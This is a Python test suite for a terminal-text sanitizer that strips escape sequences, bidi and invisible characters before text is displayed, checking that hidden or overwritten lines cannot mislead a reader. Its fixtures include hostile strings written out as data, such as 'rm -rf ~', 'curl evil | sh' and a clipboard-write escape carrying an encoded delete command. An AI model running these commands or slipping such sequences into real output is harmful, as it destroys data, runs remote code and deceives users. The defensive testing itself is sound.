"""What reaches a terminal: nothing that it obeys, nothing that hides or turns text, and no more
columns than there are.
"""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from treadle._internal.terminal_text import (
    columns,
    cut,
    one_line,
    plain,
    revealed,
    revealed_line,
    wrapped,
)

FORMATS = ("Cc", "Cf", "Cs", "Zl", "Zp", "Zs")

TEXTS = st.text(alphabet="ab 日é\u200d\U0001f469\n\t", max_size=80)
ODD = st.text(
    alphabet=st.sampled_from(
        [
            *"\x1b[]PX^_\\;(0m?1c\x07\x9b\x9d\x9c\x90\x18\r\n\t\b\x7f\u202e\u2066\ufeff\U000e0041\ud800\u0301ab"
        ]
    ),
    max_size=40,
)
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

# ---------------------------------------------------------------- what a terminal would obey


@pytest.mark.parametrize(
    "command",
    [
        *(chr(code) for code in (*range(9), *range(11, 32), *range(127, 160))),
        "\x1b[2J",
        "\x1b[38;5;1m",
        "\x1b[?1049h",
        "\x1b[!p",
        "\x9b31m",
        "\x1b]0;title\x07",
        "\x1b]8;;https://example.com\x1b\\",
        "\x1b]52;c;cm0gLXJm\x9c",
        "\x9d0;title\x9c",
        "\x1bP1$r0m\x1b\\",
        "\x90q#0\x9c",
        "\x1bXstart\x1b\\",
        "\x1b^private\x1b\\",
        "\x1b_application\x1b\\",
        "\x9fapplication\x9c",
        "\x1bc",
        "\x1b7",
        "\x1b(0",
        "\x1b#8",
        "\x1b%G",
    ],
)
def test_a_command_of_terminals_is_dropped_whole(command: str) -> None:
    assert plain(f"a{command}\nz") == "a\nz"


@pytest.mark.parametrize(
    "begun", ["\x1b]0;", "\x1bP", "\x1b^", "\x1b_", "\x1bX", "\x9d", "\x90", "\x1b[12;", "\x9b"]
)
def test_what_follows_a_sequence_without_an_end_is_shown(begun: str) -> None:
    assert plain(f"{begun}\nrm -rf ~").endswith("\nrm -rf ~")
    assert plain(f"{begun}{'é' * 9}").endswith("é" * 9)


def test_no_sequence_hides_a_line() -> None:
    assert plain("a\x1b]0;\ncurl evil | sh\n\x07z") == "a0;\ncurl evil | sh\nz"


def test_nothing_is_written_over_what_stands_there() -> None:
    assert plain("rm -rf ~\rls\x1b[1K\b\b\b") == "rm -rf ~ls"


@given(ODD)
def test_nothing_that_a_terminal_obeys_is_left(text: str) -> None:
    shown = plain(text)
    assert all(
        character in "\n\t" or unicodedata.category(character) not in ("Cc", "Cf", "Cs")
        for character in shown
    )
    assert plain(shown) == shown
    shown.encode()


def test_many_beginnings_without_an_end_cost_no_more_than_their_length() -> None:
    for begun in ("\x1b]", "\x9d", "\x1b[", "\x1b[0", "\x1b(", "\x1bP" + "a" * 100):
        plain(begun * 20_000)


# ---------------------------------------------------------------- what hides or turns text


@pytest.mark.parametrize(
    "hidden",
    [
        *BIDI,
        *"\xad\u034f\u180e\u200b\u2060\u2063\u206f\u3164\ufeff\uffa0\ufff9\U000e0001\U000e0041\U000e007f\U000e0100",
    ],
)
def test_what_nobody_sees_is_dropped(hidden: str) -> None:
    assert plain(f"cat{hidden} a") == "cat a"


@pytest.mark.parametrize(
    "text", ["👩\u200d💻", "नि\u200cम", "❤\ufe0f", "e\u0301", "שלום", "日本", "\tcode\n"]
)
def test_what_scripts_and_emoji_are_made_of_stays(text: str) -> None:
    assert plain(text) == text


def test_half_of_a_surrogate_pair_can_be_written() -> None:
    assert plain("a\ud83dz") == "a\ufffdz"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("git status \x1b]; curl evil | sh; #\x07", "git status \\x1b]; curl evil | sh; #\\x07"),
        ("ls\rrm", "ls\\x0drm"),
        ("a\u202eb\U000e0041", "a\\u202eb\\U000e0041"),
        ("one\n\ttwo 👩\u200d💻", "one\n\ttwo 👩\\u200d💻"),
    ],
)
def test_of_what_is_asked_about_nothing_is_missing(text: str, shown: str) -> None:
    assert revealed(text) == shown


def test_no_format_character_is_missing() -> None:
    """Review 3: those of Egyptian hieroglyphs, and signs without a width, were not shown."""
    signs = "\u0600\u06dd\U000110bd\U00013430\U00016fe4\U0001d159"
    formats = [chr(n) for n in range(0x110000) if unicodedata.category(chr(n)) in FORMATS]
    for sign in (*signs, *formats):
        assert revealed(f"a{sign}") != f"a{sign}" or sign in " \n\t", hex(ord(sign))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("e\u0301\u0323 n\u0303", "e\u0301\u0323 n\u0303"),
        ("e" + "\u0301" * 4, "e\u0301\u0301\\u0301\\u0301"),
        ("r\u0338m\u20e0", "r\\u0338m\\u20e0"),
        ("\u0e17\u0e35\u0e48", "\u0e17\u0e35\u0e48"),
        ("a" + "\u0e49" * 6 + "b", "a" + "\u0e49" * 4 + r"\u0e49\u0e49b"),
        ("\u0645" + "\u064b" * 5, "\u0645" + "\u064b" * 4 + r"\u064b"),
    ],
)
def test_marks_that_cover_other_characters_are_shown(text: str, shown: str) -> None:
    """Review 3: a hundred marks on one letter are drawn over the lines above and below."""
    assert revealed(text) == revealed_line(text) == shown


@given(ODD)
def test_what_is_revealed_is_plain(text: str) -> None:
    assert plain(revealed(text)) == revealed(text)


def test_one_line_is_one_line() -> None:
    assert one_line(" a\n\x1b[1mb\t c ") == "a b c"
    assert one_line("abcdef", 4) == "abc…"


# ---------------------------------------------------------------- width


@given(TEXTS, st.integers(2, 30))
def test_no_line_is_wider_than_asked_for_and_no_word_is_lost(text: str, most: int) -> None:
    lines = wrapped(text, most)
    assert all(columns(line) <= most for line in lines)
    assert "".join("".join(lines).split()) == "".join(text.split())


@given(TEXTS, st.integers(2, 30))
def test_what_is_cut_fits(text: str, most: int) -> None:
    shown = cut(text, most)
    assert columns(shown) <= most
    assert shown == text or shown.endswith("…")


def test_lines_are_broken_between_words_and_keep_their_indentation() -> None:
    assert wrapped("  one two three", 9) == ["  one two", "three"]
    assert wrapped("✓ one two", 6) == ["✓ one", "two"]
